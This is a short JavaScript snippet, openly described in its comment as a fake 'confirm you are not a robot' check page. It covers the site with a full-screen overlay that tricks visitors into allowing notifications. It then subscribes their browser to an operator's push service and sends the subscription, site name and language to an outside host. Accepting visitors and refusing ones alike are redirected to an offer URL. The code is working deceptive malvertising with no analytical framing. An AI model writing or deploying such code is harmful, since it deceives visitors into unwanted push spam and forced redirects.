// A fake check page: "click Allow to confirm you are not a robot". Accepting subscribes the
// browser to the operator's push service; refusing sends the visitor on to the next offer.
(function () {
  var d = document;
  var o = d.createElement("div");
  o.style.cssText = "position:fixed;inset:0;background:#f4f4f4;z-index:2147483646;text-align:center;padding-top:18%;font:20px Arial";
  o.innerHTML = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="64"><h2>Click &quot;Allow&quot; to confirm that you are not a robot</h2>' +
    '<p>Press Allow to verify and continue watching</p>';
  d.body.appendChild(o);
  var next = "https://go.push-offers.invalid/r?sub=" + encodeURIComponent(location.hostname);
  function subscribe(reg) {
    return reg.pushManager.subscribe({
      userVisibleOnly: true,
      applicationServerKey: "BGd7s0vXc9mQ1r2T3y4U5i6O7p8A9s0D1f2G3h4J5k6L7z8X9c0V1b2N3m4Q5w6E7r8T9y0U1i2O3p4A5s6D7f8"
    }).then(function (s) {
      return fetch("https://api.push-offers.invalid/subscribe", {
        method: "POST", headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ sub: s, site: location.hostname, lang: navigator.language })
      });
    });
  }
  if (!("serviceWorker" in navigator) || !("Notification" in window)) { location.href = next; return; }
  navigator.serviceWorker.register("/sw-check.js?k=77").then(function (reg) {
    Notification.requestPermission().then(function (p) {
      if (p === "granted") subscribe(reg).then(function () { location.href = next + "&ok=1"; });
      else setTimeout(function () { location.href = next; }, 1500);
    });
  });
})();
